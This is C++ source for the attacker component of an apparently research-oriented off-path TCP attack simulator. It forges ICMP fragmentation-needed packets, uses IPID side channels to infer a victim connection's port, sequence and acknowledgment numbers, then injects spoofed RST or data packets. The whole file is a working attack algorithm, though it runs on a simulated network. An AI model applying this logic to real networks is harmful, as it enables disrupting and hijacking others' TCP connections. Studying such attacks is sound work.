#include "offpath/attack/attacker.hpp"

#include <algorithm>

#include <fmt/format.h>

#include "offpath/contract.hpp"
#include "offpath/net/seq.hpp"

namespace offpath::attack {

using net::TcpFlag;
using net::TcpFlags;

const char* to_string(FailureReason reason) {
  switch (reason) {
    case FailureReason::None: return "None";
    case FailureReason::NoCollision: return "NoCollision";
    case FailureReason::NoConnection: return "NoConnection";
    case FailureReason::NoAcceptableSeq: return "NoAcceptableSeq";
    case FailureReason::Ambiguous: return "Ambiguous";
    case FailureReason::NoJitter: return "NoJitter";
    case FailureReason::NoBoundary: return "NoBoundary";
    case FailureReason::ConnectionReset: return "ConnectionReset";
    case FailureReason::Stale: return "Stale";
    case FailureReason::BadAck: return "BadAck";
    case FailureReason::Timeout: return "Timeout";
    case FailureReason::WrongInference: return "WrongInference";
    case FailureReason::NotDowngraded: return "NotDowngraded";
  }
  return "?";
}

bool AttackReport::success() const {
  return !phases.empty() &&
         std::all_of(phases.begin(), phases.end(), [](const auto& p) { return p.success; });
}

FailureReason AttackReport::failure() const {
  for (const auto& p : phases)
    if (!p.success) return p.reason;
  return FailureReason::None;
}

const PhaseRecord* AttackReport::find(const std::string& name) const {
  for (const auto& p : phases)
    if (p.name == name) return &p;
  return nullptr;
}

net::SimTime AttackReport::total_ms() const {
  net::SimTime total = 0;
  for (const auto& p : phases) total += p.duration();
  return total;
}

Attacker::Attacker(net::Network& net, AttackConfig cfg, std::uint64_t seed)
    : net_(net),
      cfg_(std::move(cfg)),
      rng_(seed),
      id_(net.add_host("attacker", host_)),
      prober_(net, id_, host_, cfg_.server) {
  expects(cfg_.probe_rate_pps > 0 && cfg_.scan_rate_pps > 0 && cfg_.port_scan_rate_pps > 0,
          "probe rates must be positive");
  expects(cfg_.port_lo <= cfg_.port_hi, "empty port range");
  net.assign_address(id_, cfg_.self);
  for (auto a : cfg_.addr_pool) net.assign_address(id_, a);
  prober_.set_rate(cfg_.probe_rate_pps);
}

std::uint16_t Attacker::random_port() {
  return static_cast<std::uint16_t>(rng_.uniform(cfg_.port_lo, cfg_.port_hi));
}

std::uint32_t Attacker::random_u32() { return static_cast<std::uint32_t>(rng_.uniform(0, 0xffffffff)); }

void Attacker::begin_phase(const std::string& name, net::SimTime timeout) {
  current_ = PhaseRecord{};
  current_.name = name;
  current_.start_ms = net_.now();
  phase_deadline_ = net_.now() + timeout;
  packets_at_start_ = net_.packets_sent(id_);
  if (net_.trace().enabled()) net_.note(id_, fmt::format("phase {} begin", name));
}

template <typename T>
PhaseResult<T> Attacker::end_phase(PhaseResult<T> r, std::optional<std::uint64_t> inferred) {
  current_.end_ms = net_.now();
  current_.packets_sent = net_.packets_sent(id_) - packets_at_start_;
  current_.success = r.ok();
  current_.reason = r.reason;
  current_.inferred = inferred;
  if (hook_) {
    if (auto veto = hook_(current_)) {
      current_.success = false;
      current_.reason = *veto;
      r = PhaseResult<T>::failure(*veto);
    }
  }
  if (!current_.success) halted_ = true;
  if (net_.trace().enabled())
    net_.note(id_, fmt::format("phase {} end {} {}", current_.name,
                               current_.success ? "success" : "failure", to_string(current_.reason)));
  report_.phases.push_back(current_);
  return r;
}

net::Packet Attacker::to_server(net::Ipv4Addr src, std::uint16_t sport, std::uint32_t seq,
                                std::uint32_t ack, TcpFlags flags, std::string payload) const {
  return spoofed_tcp(src, sport, cfg_.server, cfg_.server_port, seq, ack, flags, std::move(payload));
}

std::vector<net::Packet> Attacker::copies(const net::Packet& p, int n) const {
  return std::vector<net::Packet>(static_cast<std::size_t>(std::max(1, n)), p);
}

Attacker::Signal Attacker::test(const Window& w, bool challenge_paced, std::uint16_t threshold) {
  if (challenge_paced)
    prober_.wait_for_challenge_budget(cfg_.challenge_interval_ms + cfg_.pacing_margin_ms);
  auto r = prober_.probe(w);
  bool positive = r.complete && r.extras.front() >= threshold;
  if (challenge_paced && (!r.complete || positive)) prober_.note_possible_challenge(r.sent_at);
  if (!r.complete) return Signal::Ambiguous;
  return positive ? Signal::Positive : Signal::Negative;
}

Attacker::Signal Attacker::test_with_retries(const std::function<Window()>& make,
                                             bool challenge_paced, std::uint16_t threshold) {
  for (int i = 0; i < 3; ++i) {
    auto s = test(make(), challenge_paced, threshold);
    if (s != Signal::Ambiguous) return s;
    if (prober_.timed_out(phase_deadline_)) break;
  }
  return Signal::Ambiguous;
}

std::optional<std::size_t> Attacker::binary_search(
    std::size_t count, const std::function<Window(std::size_t, std::size_t)>& make,
    bool challenge_paced) {
  for (int attempt = 0; attempt <= cfg_.retry_on_ambiguity; ++attempt) {
    // Re-confirm the whole range before narrowing.
    auto s = test_with_retries([&] { return make(0, count); }, challenge_paced);
    if (s != Signal::Positive) return std::nullopt;
    std::size_t lo = 0;
    std::size_t hi = count;
    bool broken = false;
    while (hi - lo > 1) {
      if (prober_.timed_out(phase_deadline_)) return std::nullopt;
      std::size_t mid = lo + (hi - lo) / 2;
      auto m = test_with_retries([&] { return make(lo, mid); }, challenge_paced);
      if (m == Signal::Positive) hi = mid;
      else if (m == Signal::Negative) lo = mid;
      else {
        broken = true;
        break;
      }
    }
    if (broken) continue;
    auto confirm = test_with_retries([&] { return make(lo, lo + 1); }, challenge_paced);
    if (confirm == Signal::Positive) return lo;
  }
  return std::nullopt;
}

PhaseResult<net::SimTime> Attacker::measure_rtt() {
  begin_phase("rtt", cfg_.timeouts.rtt);
  prober_.set_rate(cfg_.probe_rate_pps);
  net::SimTime rtt = -1;
  for (int i = 0; i < 3; ++i) {
    std::uint32_t key = 0;
    auto pkt = prober_.echo(cfg_.self, &key);
    prober_.send_raw(std::span<const net::Packet>(&pkt, 1));
    net::SimTime sent = net_.now();
    while (net_.now() - sent < 3000) {
      prober_.wait_until(net_.now() + 1);
      if (prober_.network().now() > phase_deadline_) break;
      if (host_.take_reply(key)) {
        rtt = std::max(rtt, net_.now() - sent);
        break;
      }
    }
  }
  if (rtt < 0) return end_phase(PhaseResult<net::SimTime>::failure(FailureReason::Timeout));
  prober_.set_reply_wait(rtt, cfg_.reply_margin_ms);
  return end_phase(PhaseResult<net::SimTime>::success(rtt), static_cast<std::uint64_t>(rtt));
}

PhaseResult<bool> Attacker::downgrade(net::Ipv4Addr client) {
  begin_phase("downgrade", cfg_.timeouts.downgrade);
  auto id = static_cast<std::uint16_t>(rng_.uniform(0, 0xffff));
  auto seqno = static_cast<std::uint16_t>(rng_.uniform(0, 0xffff));
  std::vector<net::Packet> pkts;
  if (cfg_.embedded_source == EmbeddedSource::ElicitedEchoReply) {
    // The server's reply goes to the client, but its content is predictable.
    for (int i = 0; i < 2; ++i) pkts.push_back(echo_request(client, cfg_.server, id, seqno));
  }
  for (int i = 0; i < 2; ++i)
    pkts.push_back(forge_frag_needed(cfg_.router, cfg_.server, client, cfg_.forged_mtu, id, seqno));
  prober_.send_raw(pkts);
  prober_.wait_until(net_.now() + prober_.reply_wait());
  return end_phase(PhaseResult<bool>::success(true));
}

bool Attacker::detect_collision(net::Ipv4Addr candidate) {
  auto make = [&] {
    Window w;
    w.observer = candidate;
    w.slots.push_back(Slot{{to_server(cfg_.client, random_port(), random_u32(), 0,
                                      TcpFlags{TcpFlag::Syn})}});
    return w;
  };
  for (int i = 0; i <= cfg_.retry_on_ambiguity; ++i) {
    if (test_with_retries(make, false) != Signal::Positive) return false;
  }
  return true;
}

PhaseResult<net::Ipv4Addr> Attacker::find_colliding_address(const std::vector<net::Ipv4Addr>& pool) {
  using R = PhaseResult<net::Ipv4Addr>;
  begin_phase("collision", cfg_.timeouts.collision);
  prober_.set_rate(cfg_.scan_rate_pps);
  const std::size_t per = std::max<std::size_t>(1, cfg_.collision_addrs_per_window);
  std::size_t start = 0;
  std::uint64_t unconfirmed = 0;
  while (start < pool.size()) {
    std::size_t groups = (pool.size() - start + per - 1) / per;
    auto make = [&](std::size_t g) {
      std::vector<Window> batch;
      for (std::size_t i = start + g * per; i < std::min(pool.size(), start + (g + 1) * per); ++i) {
        Window w;
        w.observer = pool[i];
        w.slots.push_back(Slot{{to_server(cfg_.client, random_port(), random_u32(), 0,
                                          TcpFlags{TcpFlag::Syn})}});
        batch.push_back(std::move(w));
      }
      return batch;
    };
    auto hit = prober_.scan(groups, make, phase_deadline_);
    if (!hit) {
      if (prober_.timed_out(phase_deadline_)) return end_phase(R::failure(FailureReason::Timeout));
      break;
    }
    std::size_t pos = start + hit->index * per + hit->window;
    current_.counters["trials"] = pos + 1;
    // The scan hit counts as the first detection; confirm it once more.
    bool confirmed = true;
    for (int i = 0; i < cfg_.retry_on_ambiguity && confirmed; ++i) {
      auto make_one = [&] {
        Window w;
        w.observer = pool[pos];
        w.slots.push_back(Slot{{to_server(cfg_.client, random_port(), random_u32(), 0,
                                          TcpFlags{TcpFlag::Syn})}});
        return w;
      };
      confirmed = test_with_retries(make_one, false) == Signal::Positive;
    }
    if (confirmed) {
      current_.counters["unconfirmed"] = unconfirmed;
      return end_phase(R::success(pool[pos]), pool[pos].value);
    }
    ++unconfirmed;
    start = pos + 1;
  }
  current_.counters["trials"] = pool.size();
  current_.counters["unconfirmed"] = unconfirmed;
  return end_phase(R::failure(FailureReason::NoCollision));
}

PhaseResult<std::vector<net::Ipv4Addr>> Attacker::enumerate_victim_clients(
    net::Ipv4Addr first, std::uint64_t count, net::SimTime time_limit_ms) {
  using R = PhaseResult<std::vector<net::Ipv4Addr>>;
  begin_phase("enumerate", std::min(time_limit_ms, cfg_.timeouts.enumerate));
  prober_.set_rate(cfg_.scan_rate_pps);
  const std::size_t per = std::max<std::size_t>(1, cfg_.enumerate_slots_per_window);
  auto candidate = [&](std::uint64_t i) { return net::Ipv4Addr{first.value + static_cast<std::uint32_t>(i)}; };
  auto syn_as = [&](net::Ipv4Addr c) {
    return to_server(c, random_port(), random_u32(), 0, TcpFlags{TcpFlag::Syn});
  };

  std::vector<net::Ipv4Addr> found;
  std::uint64_t start = 0;
  while (start < count && !prober_.timed_out(phase_deadline_)) {
    std::size_t windows = static_cast<std::size_t>((count - start + per - 1) / per);
    auto make = [&](std::size_t g) {
      Window w;
      w.observer = cfg_.self;
      for (std::uint64_t i = start + g * per; i < std::min(count, start + (g + 1) * per); ++i) {
        auto c = candidate(i);
        auto id = static_cast<std::uint16_t>(rng_.uniform(0, 0xffff));
        auto seqno = static_cast<std::uint16_t>(rng_.uniform(0, 0xffff));
        if (cfg_.embedded_source == EmbeddedSource::ElicitedEchoReply)
          w.setup.push_back(echo_request(c, cfg_.server, id, seqno));
        w.setup.push_back(forge_frag_needed(cfg_.router, cfg_.server, c, cfg_.forged_mtu, id, seqno));
        w.slots.push_back(Slot{{syn_as(c)}});
      }
      return std::vector<Window>{std::move(w)};
    };
    auto hit = prober_.scan(windows, make, phase_deadline_);
    if (!hit) break;
    std::uint64_t pos = start + hit->index * per + hit->slot;
    auto c = candidate(pos);
    bool confirmed = true;
    for (int i = 0; i < cfg_.retry_on_ambiguity && confirmed; ++i) {
      auto make_one = [&] {
        Window w;
        w.observer = cfg_.self;
        w.slots.push_back(Slot{{syn_as(c)}});
        return w;
      };
      confirmed = test_with_retries(make_one, false) == Signal::Positive;
    }
    if (confirmed) found.push_back(c);
    start = pos + 1;
  }
  current_.counters["scanned"] = std::min(start, count);
  current_.counters["found"] = found.size();
  return end_phase(R::success(std::move(found)));
}

PhaseResult<std::uint16_t> Attacker::detect_connection_port(net::Ipv4Addr collider) {
  using R = PhaseResult<std::uint16_t>;
  begin_phase("port", cfg_.timeouts.port);
  prober_.set_rate(cfg_.port_scan_rate_pps);
  const std::size_t range = std::size_t{cfg_.port_hi} - cfg_.port_lo + 1;
  const std::size_t block = std::max<std::size_t>(1, cfg_.port_block);
  const std::size_t per = std::max<std::size_t>(1, cfg_.port_blocks_per_window);
  const std::size_t blocks = (range + block - 1) / block;
  auto port_at = [&](std::size_t i) { return static_cast<std::uint16_t>(cfg_.port_lo + i); };
  auto synack = [&](std::uint16_t p) {
    return to_server(cfg_.client, p, random_u32(), random_u32(), TcpFlags{TcpFlag::Syn, TcpFlag::Ack});
  };

  prober_.wait_for_challenge_budget(cfg_.challenge_interval_ms + cfg_.pacing_margin_ms);
  for (int pass = 0; pass < 2; ++pass) {
    std::size_t start_block = 0;
    while (start_block < blocks) {
      std::size_t windows = (blocks - start_block + per - 1) / per;
      auto make = [&](std::size_t g) {
        Window w;
        w.observer = collider;
        for (std::size_t b = start_block + g * per; b < std::min(blocks, start_block + (g + 1) * per); ++b) {
          Slot s;
          for (std::size_t i = b * block; i < std::min(range, (b + 1) * block); ++i)
            s.triggers.push_back(synack(port_at(i)));
          w.slots.push_back(std::move(s));
        }
        return std::vector<Window>{std::move(w)};
      };
      auto hit = prober_.scan(windows, make, phase_deadline_);
      if (!hit) break;
      prober_.note_possible_challenge(hit->result.sent_at);
      std::size_t b = start_block + hit->index * per + hit->slot;
      std::size_t first = b * block;
      std::size_t n = std::min(range, first + block) - first;
      auto narrow = [&](std::size_t lo, std::size_t hi) {
        Window w;
        w.observer = collider;
        Slot s;
        for (std::size_t i = lo; i < hi; ++i) {
          auto c = copies(synack(port_at(first + i)), cfg_.trigger_copies);
          s.triggers.insert(s.triggers.end(), c.begin(), c.end());
        }
        w.slots.push_back(std::move(s));
        return w;
      };
      if (auto idx = binary_search(n, narrow, true)) {
        auto port = port_at(first + *idx);
        return end_phase(R::success(port), port);
      }
      if (prober_.timed_out(phase_deadline_)) return end_phase(R::failure(FailureReason::Timeout));
      current_.counters["unconfirmed"] += 1;
      start_block = b + 1;
    }
    if (prober_.timed_out(phase_deadline_)) return end_phase(R::failure(FailureReason::Timeout));
    current_.counters["passes"] = pass + 1;
  }
  return end_phase(R::failure(FailureReason::NoConnection));
}

PhaseResult<std::uint32_t> Attacker::infer_acceptable_seq(net::Ipv4Addr collider,
                                                          std::uint16_t port) {
  using R = PhaseResult<std::uint32_t>;
  begin_phase("seq", cfg_.timeouts.seq);
  prober_.set_rate(cfg_.probe_rate_pps);
  const std::uint64_t stride = cfg_.assumed_rcv_wnd;
  const std::size_t candidates = static_cast<std::size_t>((net::kSeqSpace + stride - 1) / stride);
  const std::size_t block = std::max<std::size_t>(1, cfg_.seq_block);
  const std::size_t per = std::max<std::size_t>(1, cfg_.seq_blocks_per_window);
  const std::size_t blocks = (candidates + block - 1) / block;
  const std::uint32_t origin = random_u32();
  auto seq_at = [&](std::size_t i) { return static_cast<std::uint32_t>(origin + i * stride); };
  auto rst = [&](std::uint32_t seq) { return to_server(cfg_.client, port, seq, 0, TcpFlags{TcpFlag::Rst}); };

  prober_.wait_for_challenge_budget(cfg_.challenge_interval_ms + cfg_.pacing_margin_ms);
  std::size_t start_block = 0;
  while (start_block < blocks) {
    std::size_t windows = (blocks - start_block + per - 1) / per;
    auto make = [&](std::size_t g) {
      Window w;
      w.observer = collider;
      for (std::size_t b = start_block + g * per; b < std::min(blocks, start_block + (g + 1) * per); ++b) {
        Slot s;
        for (std::size_t i = b * block; i < std::min(candidates, (b + 1) * block); ++i)
          s.triggers.push_back(rst(seq_at(i)));
        w.slots.push_back(std::move(s));
      }
      return std::vector<Window>{std::move(w)};
    };
    auto hit = prober_.scan(windows, make, phase_deadline_);
    if (!hit) break;
    prober_.note_possible_challenge(hit->result.sent_at);
    std::size_t b = start_block + hit->index * per + hit->slot;
    std::size_t first = b * block;
    std::size_t n = std::min(candidates, first + block) - first;
    auto narrow = [&](std::size_t lo, std::size_t hi) {
      Window w;
      w.observer = collider;
      Slot s;
      for (std::size_t i = lo; i < hi; ++i) {
        auto c = copies(rst(seq_at(first + i)), cfg_.trigger_copies);
        s.triggers.insert(s.triggers.end(), c.begin(), c.end());
      }
      w.slots.push_back(std::move(s));
      return w;
    };
    if (auto idx = binary_search(n, narrow, true)) {
      auto seq = seq_at(first + *idx);
      return end_phase(R::success(seq), seq);
    }
    if (prober_.timed_out(phase_deadline_)) return end_phase(R::failure(FailureReason::Timeout));
    current_.counters["unconfirmed"] += 1;
    start_block = b + 1;
  }
  if (prober_.timed_out(phase_deadline_)) return end_phase(R::failure(FailureReason::Timeout));
  return end_phase(R::failure(FailureReason::NoAcceptableSeq));
}

PhaseResult<std::uint32_t> Attacker::locate_challenge_window(net::Ipv4Addr collider,
                                                             std::uint16_t port,
                                                             std::uint32_t seq_acceptable) {
  using R = PhaseResult<std::uint32_t>;
  begin_phase("locate", cfg_.timeouts.locate);
  prober_.set_rate(cfg_.probe_rate_pps);
  auto make_for = [&](std::uint32_t ack) {
    return [=, this] {
      Window w;
      w.observer = collider;
      w.slots.push_back(Slot{copies(to_server(cfg_.client, port, seq_acceptable, ack,
                                              TcpFlags{TcpFlag::Ack}),
                                    cfg_.trigger_copies)});
      return w;
    };
  };
  for (int attempt = 0; attempt <= cfg_.retry_on_ambiguity; ++attempt) {
    for (std::uint32_t k = 0; k < 4; ++k) {
      if (prober_.timed_out(phase_deadline_)) return end_phase(R::failure(FailureReason::Timeout));
      std::uint32_t ack = k << 30;
      if (test_with_retries(make_for(ack), true) != Signal::Positive) continue;
      if (test_with_retries(make_for(ack), true) == Signal::Positive)
        return end_phase(R::success(ack), ack);
    }
  }
  return end_phase(R::failure(FailureReason::Ambiguous));
}

JitterMeasurement Attacker::measure_jitter(net::Ipv4Addr collider, std::uint16_t port,
                                           std::uint32_t seq, std::uint32_t ack, int probes,
                                           net::SimTime span_ms) {
  JitterMeasurement m;
  m.probes = probes;
  net::SimTime start = net_.now();
  std::vector<Ticket> tickets;
  for (int i = 0; i < probes; ++i) {
    prober_.wait_until(start + span_ms * i / probes);
    Window w;
    w.observer = collider;
    w.slots.push_back(Slot{{to_server(cfg_.client, port, seq, ack, TcpFlags{TcpFlag::Ack})}});
    tickets.push_back(prober_.send(w));
  }
  m.span_ms = net_.now() - start;
  m.complete = true;
  for (const auto& t : tickets) {
    auto r = prober_.collect(t);
    if (!r.complete) {
      m.complete = false;
      continue;
    }
    m.extra_increments += r.extras.front();
  }
  prober_.note_possible_challenge(tickets.back().sent_at);
  return m;
}

PhaseResult<std::uint32_t> Attacker::detect_exact_seq(net::Ipv4Addr collider, std::uint16_t port,
                                                      std::uint32_t seq_acceptable,
                                                      std::uint32_t ack_challenge) {
  begin_phase("exact_seq", cfg_.timeouts.exact_seq);
  auto r = exact_seq_search(collider, port, seq_acceptable, ack_challenge);
  std::optional<std::uint64_t> inferred;
  if (r.ok()) inferred = *r.value;
  return end_phase(std::move(r), inferred);
}

PhaseResult<std::uint32_t> Attacker::exact_seq_search(net::Ipv4Addr collider, std::uint16_t port,
                                                      std::uint32_t seq_in_window,
                                                      std::uint32_t ack_challenge) {
  using R = PhaseResult<std::uint32_t>;
  enum class Side { Below, Inside, Unknown };
  prober_.set_rate(cfg_.probe_rate_pps);
  const int burst = std::max(2, cfg_.jitter_probes);
  std::optional<net::SimTime> last_test;
  std::uint64_t tests = 0;

  // Below RCV.NXT every probe draws a duplicate ACK; inside the window the
  // whole burst yields at most one challenge ACK.
  auto classify = [&](std::uint32_t seq) {
    for (int attempt = 0; attempt < 3; ++attempt) {
      if (last_test) prober_.wait_until(*last_test + cfg_.jitter_interval_ms);
      Window w;
      w.observer = collider;
      w.slots.push_back(Slot{copies(to_server(cfg_.client, port, seq, ack_challenge,
                                              TcpFlags{TcpFlag::Ack}),
                                    burst)});
      auto r = prober_.probe(w);
      last_test = r.sent_at;
      prober_.note_possible_challenge(r.sent_at);
      ++tests;
      if (!r.complete) continue;
      auto extra = r.extras.front();
      if (extra >= burst / 2) return Side::Below;
      if (extra <= 1) return Side::Inside;
    }
    return Side::Unknown;
  };

  std::uint32_t hi = seq_in_window;
  auto first = classify(hi);
  if (first == Side::Unknown) return R::failure(FailureReason::NoJitter);
  if (first == Side::Below) return R::failure(FailureReason::Stale);

  // Stride descent until the jitter appears.
  std::optional<std::uint32_t> lo;
  for (int step = 0; step < 64 && !lo; ++step) {
    if (prober_.timed_out(phase_deadline_)) return R::failure(FailureReason::Timeout);
    std::uint32_t probe = hi - cfg_.assumed_rcv_wnd;
    auto side = classify(probe);
    if (side == Side::Unknown) return R::failure(FailureReason::NoJitter);
    if (side == Side::Below) lo = probe;
    else hi = probe;
  }
  if (!lo) return R::failure(FailureReason::NoJitter);

  while (static_cast<std::uint32_t>(hi - *lo) > 1) {
    if (prober_.timed_out(phase_deadline_)) return R::failure(FailureReason::Timeout);
    std::uint32_t mid = *lo + static_cast<std::uint32_t>(hi - *lo) / 2;
    auto side = classify(mid);
    if (side == Side::Unknown) return R::failure(FailureReason::NoJitter);
    if (side == Side::Below) lo = mid;
    else hi = mid;
  }
  current_.counters["tests"] += tests;
  return R::success(hi);
}

PhaseResult<std::uint32_t> Attacker::detect_acceptable_ack(net::Ipv4Addr collider,
                                                           std::uint16_t port,
                                                           std::uint32_t rcv_nxt,
                                                           std::uint32_t ack_challenge) {
  using R = PhaseResult<std::uint32_t>;
  begin_phase("ack", cfg_.timeouts.ack);
  prober_.set_rate(cfg_.probe_rate_pps);
  // ack_challenge is inside the challenge window; 2^31 below it is not.
  std::uint32_t lo = ack_challenge - net::kHalfSeqSpace;
  std::uint32_t hi = ack_challenge;
  while (static_cast<std::uint32_t>(hi - lo) > 1) {
    if (prober_.timed_out(phase_deadline_)) return end_phase(R::failure(FailureReason::Timeout));
    std::uint32_t mid = lo + static_cast<std::uint32_t>(hi - lo) / 2;
    auto make = [&] {
      Window w;
      w.observer = collider;
      w.slots.push_back(Slot{copies(to_server(cfg_.client, port, rcv_nxt, mid,
                                              TcpFlags{TcpFlag::Ack}),
                                    cfg_.trigger_copies)});
      return w;
    };
    auto s = test_with_retries(make, true);
    if (s == Signal::Ambiguous) return end_phase(R::failure(FailureReason::NoBoundary));
    if (s == Signal::Positive) hi = mid;
    else lo = mid;
  }
  // lo is the last value outside the window: SND.UNA - 2^31.
  std::uint32_t snd_una = lo + net::kHalfSeqSpace;
  current_.counters["boundary"] = lo;
  current_.counters["snd_nxt_bound"] = static_cast<std::uint32_t>(snd_una + cfg_.assumed_snd_wnd);
  return end_phase(R::success(snd_una), snd_una);
}

PhaseResult<bool> Attacker::execute_reset(net::Ipv4Addr collider, std::uint16_t port,
                                          std::uint32_t rcv_nxt, std::uint32_t ack_challenge) {
  using R = PhaseResult<bool>;
  begin_phase("reset", cfg_.timeouts.reset);
  prober_.set_rate(cfg_.probe_rate_pps);
  std::uint32_t target = rcv_nxt;
  for (int attempt = 0; attempt <= cfg_.retry_on_ambiguity; ++attempt) {
    auto rsts = copies(to_server(cfg_.client, port, target, 0, TcpFlags{TcpFlag::Rst}),
                       cfg_.trigger_copies);
    prober_.wait_for_challenge_budget(cfg_.challenge_interval_ms + cfg_.pacing_margin_ms);
    prober_.send_raw(rsts);
    // A near miss draws a challenge ACK, which would mask the liveness test.
    prober_.note_possible_challenge(net_.now());
    prober_.wait_until(net_.now() + prober_.reply_wait());
    // A live connection answers a SYN/ACK on its 4-tuple with a challenge ACK.
    auto make = [&] {
      Window w;
      w.observer = collider;
      w.slots.push_back(Slot{copies(to_server(cfg_.client, port, random_u32(), random_u32(),
                                              TcpFlags{TcpFlag::Syn, TcpFlag::Ack}),
                                    cfg_.trigger_copies)});
      return w;
    };
    auto s = test_with_retries(make, true);
    if (s == Signal::Negative) {
      current_.counters["retries"] = attempt;
      return end_phase(R::success(true), target);
    }
    if (attempt == cfg_.retry_on_ambiguity) break;
    // The window may have moved on; search again from one window ahead.
    auto again = exact_seq_search(collider, port, target + cfg_.assumed_rcv_wnd / 2, ack_challenge);
    if (!again.ok()) break;
    target = *again.value;
  }
  return end_phase(R::failure(FailureReason::Stale));
}

PhaseResult<bool> Attacker::execute_injection(std::uint16_t port, std::uint32_t rcv_nxt,
                                              std::uint32_t snd_una) {
  using R = PhaseResult<bool>;
  begin_phase("inject", cfg_.timeouts.inject);
  prober_.set_rate(cfg_.probe_rate_pps);
  auto data = copies(to_server(cfg_.client, port, rcv_nxt, snd_una,
                               TcpFlags{TcpFlag::Ack, TcpFlag::Psh}, cfg_.payload),
                     cfg_.trigger_copies);
  prober_.send_raw(data);
  prober_.wait_until(net_.now() + prober_.reply_wait());
  return end_phase(R::success(true));
}

IpidObservation Attacker::observe_linearized(net::Ipv4Addr observer, std::size_t n_probes,
                                             int rate_pps, std::optional<std::size_t> trigger_at,
                                             std::vector<net::Packet> trigger) {
  expects(rate_pps > 0, "observation rate must be positive");
  IpidObservation obs;
  std::vector<std::uint32_t> keys;
  net::SimTime start = net_.now();
  // Unrecorded first echo takes the increment for the idle time before the stream.
  net_.transmit(id_, prober_.echo(observer, nullptr));
  for (std::size_t i = 0; i < n_probes; ++i) {
    prober_.wait_until(start + static_cast<net::SimTime>(i * 1000 / static_cast<std::size_t>(rate_pps)));
    if (trigger_at && *trigger_at == i) {
      for (const auto& p : trigger) net_.transmit(id_, p);
    }
    std::uint32_t key = 0;
    net_.transmit(id_, prober_.echo(observer, &key));
    keys.push_back(key);
    obs.samples.push_back(IpidSample{net_.now(), std::nullopt});
  }
  prober_.wait_until(net_.now() + prober_.reply_wait());
  for (std::size_t i = 0; i < keys.size(); ++i) obs.samples[i].ipid = host_.take_reply(keys[i]);
  obs.annotate();
  return obs;
}

}  // namespace offpath::attack
